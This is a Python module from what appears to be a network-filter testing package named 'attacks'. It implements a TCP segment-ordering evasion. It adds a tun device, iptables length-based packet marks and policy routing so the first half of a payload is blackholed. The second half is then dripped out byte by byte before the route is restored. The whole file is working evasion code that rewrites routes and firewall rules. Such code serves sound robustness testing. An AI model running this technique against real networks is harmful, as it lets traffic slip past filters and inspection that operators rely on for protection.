"""The second half of a value first: the first half takes another route, to nowhere, meanwhile.

A mark by the packet's length and a routing rule by that mark lead the first half to a tun device
that nobody reads. After some seconds a gap might be taken for a stream that went on unseen, and
what is behind it let out; then the route is mended, and TCP sends the first half.
"""

from __future__ import annotations

import time

from attacks.connection import drained, give_up, halves
from attacks.inner import run
from attacks.target import Target, refused

TABLE, MARK = "99", "0x99"
LONG = 700  # bytes that tell the first half from the rest
PAUSE = 0.3  # seconds between the bytes of the second half


def main(target: Target) -> None:
    """Split, wait, mend, wait."""
    first, second = halves(target)
    first = b"." * LONG + b" " + first
    run("ip", "tuntap", "add", "dev", "tun9", "mode", "tun")
    run("ip", "link", "set", "tun9", "up")
    run("ip", "route", "replace", "default", "dev", "tun9", "table", TABLE)
    run("ip", "rule", "add", "fwmark", MARK, "lookup", TABLE)
    way_out = ("ip", "route", "replace", "default", "via", target.gateways[4])
    run(*way_out, "dev", target.device, "rto_min", "5s")  # sent again late, the window stays open
    rule = ["OUTPUT", "-p", "tcp", "--dport", str(target.port)]
    rule += ["-m", "length", "--length", f"{LONG}:900", "-j", "MARK", "--set-mark", MARK]
    made = target.tcp()
    try:
        made.sendall(b"hello\n")
        drained(made)
        run("iptables", "-w", "-t", "mangle", "-A", *rule)
        with refused():
            made.sendall(first)
            for place in range(len(second)):
                time.sleep(PAUSE)
                made.sendall(second[place : place + 1])
        run("iptables", "-w", "-t", "mangle", "-D", *rule)
        drained(made, 8)
    finally:
        give_up(made)
        run(*way_out, "dev", target.device)
        run("ip", "rule", "del", "fwmark", MARK, check=False)
        run("ip", "link", "del", "tun9", check=False)
